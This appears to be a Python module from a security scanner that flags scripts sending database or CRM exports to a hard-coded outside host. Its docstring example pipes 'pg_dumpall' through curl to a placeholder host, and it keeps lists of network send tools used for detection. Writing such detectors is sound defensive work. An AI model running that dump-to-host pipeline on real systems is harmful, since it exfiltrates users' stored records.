"""A database or CRM export sent to a host the script writes.

The family: a "backup", "report" or "migration check" script exports the user's records
with the user's own login (``pg_dump``, ``mysqldump``, ``mongoexport``, ``sqlite3 .dump``,
the Salesforce CLI's ``sf data query``) and pipes the export, or the file it wrote, to an
address written in the script. A dump kept on disk, sent to a destination the user
configures (``"$BACKUP_URL"``, ``s3://$BUCKET``), or to this machine or the local network
is a backup; a host the package documents as its own service is judged by the package's
declared destinations.

>>> [(f.rule_id, f.line) for f in record_dump_findings("b.sh", "pg_dumpall | curl -T - https://x.invalid/u")]
[('database.dump-to-network', 1)]
>>> record_dump_findings("b.sh", 'pg_dump "$DATABASE_URL" | gzip > backups/db.sql.gz')
[]
"""

from __future__ import annotations

import re

from .credential_staging import (
    command_stages,
    logical_lines,
    stage_program,
    stage_sends,
    stage_written_file,
)
from .destinations import hosts_in, is_internal
from .findings import ThreatFinding, line_finding
from .literal_scan import scanner_for

RULE_ID = "database.dump-to-network"
_DUMPERS = frozenset(
    {"pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mongodump", "mongoexport", "bcp"}
)
"""Programs whose output is a database's records."""
_HINT = re.compile(r"dump|mongoexport|\bbcp\b|\bsf\s|\bsfdx\s|sqlite3|redis-cli")
_OUTPUT_FLAGS = frozenset({"-f", "--file", "-o", "--out", "--output", "-r", "--result-file"})
_ARCHIVERS = {"gzip": ".gz", "xz": ".xz", "bzip2": ".bz2", "zstd": ".zst"}
_HOST_WORD = re.compile(r"^(?:[\w.-]+@)?([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)(?::[\w/.~-]*)?$")
_RAW_SENDERS = frozenset({"nc", "ncat", "netcat", "socat", "scp", "rsync", "sftp"})
"""Senders that take a bare host name (no URL)."""
_RAW_SENDER_HINT = re.compile(r"\b(?:nc|ncat|netcat|socat|scp|rsync|sftp)\b")


def _dumps_records(stage: list[str]) -> bool:
    program = stage_program(stage)
    words = set(stage)
    if program in _DUMPERS:
        return True
    if program == "sqlite3":
        return any(".dump" in word for word in stage)
    if program in ("sf", "sfdx"):
        return ("data" in words and bool(words & {"query", "export", "bulk"})) or (
            "force:data:soql:query" in words
        )
    return program == "redis-cli" and "--rdb" in words


def _output_file(stage: list[str]) -> str:
    """The file a dump stage writes: its redirection or its output option."""
    written = stage_written_file(stage)
    if written:
        return written
    for before, word in zip(stage, stage[1:], strict=False):
        if before in _OUTPUT_FLAGS:
            return word
    for word in stage:
        flag, _, value = word.partition("=")
        if value and flag in _OUTPUT_FLAGS | {"--archive"}:
            return value
    return ""


def _outside_host(stage: list[str]) -> str:
    """A host written in a sending stage that is not this machine or the local network."""
    text = " ".join(stage)
    hosts = set(hosts_in(text))
    if stage_program(stage) in _RAW_SENDERS:
        hosts |= {m.group(1).lower() for w in stage[1:] if (m := _HOST_WORD.match(w))}
    return next((h for h in sorted(hosts) if not is_internal(h) and "." in h), "")


def _sends_file(stage: list[str], name: str) -> bool:
    return any(
        word == name or word.endswith(("@" + name, "=" + name, "@" + name + "'")) for word in stage
    )


def record_dump_findings(path: str, text: str) -> list[ThreatFinding]:
    """A finding where a database export, piped or written to a file, is sent to a written
    outside host."""
    if not scanner_for(_HINT).search(text) or (
        "://" not in text and not scanner_for(_RAW_SENDER_HINT).search(text)
    ):
        return []
    lines = text.splitlines()
    staged: dict[str, int] = {}
    findings = []
    for number, line in logical_lines(lines):
        for stages in command_stages(line):
            host = ""
            for index, stage in enumerate(stages):
                if _dumps_records(stage):
                    later = stages[index + 1 :]
                    host = next(
                        (h for s in later if stage_sends(s) and (h := _outside_host(s))), ""
                    )
                    if not host and (written := _output_file(stage)):
                        staged.setdefault(written, number)
                elif (program := stage_program(stage)) in _ARCHIVERS:
                    for name in [w for w in stage[1:] if w in staged]:
                        staged.setdefault(name + _ARCHIVERS[program], staged[name])
                elif any(_sends_file(stage, name) for name in staged) and stage_sends(stage):
                    host = _outside_host(stage)
                elif (written := stage_written_file(stage)) and any(w in staged for w in stage[1:]):
                    staged.setdefault(written, number)
                if host:
                    break
            if host:
                findings.append(
                    line_finding(
                        path,
                        lines,
                        number,
                        "8.2",
                        "high",
                        f"sends a database export to {host}, a host the script writes",
                        RULE_ID,
                    )
                )
                break
    return findings
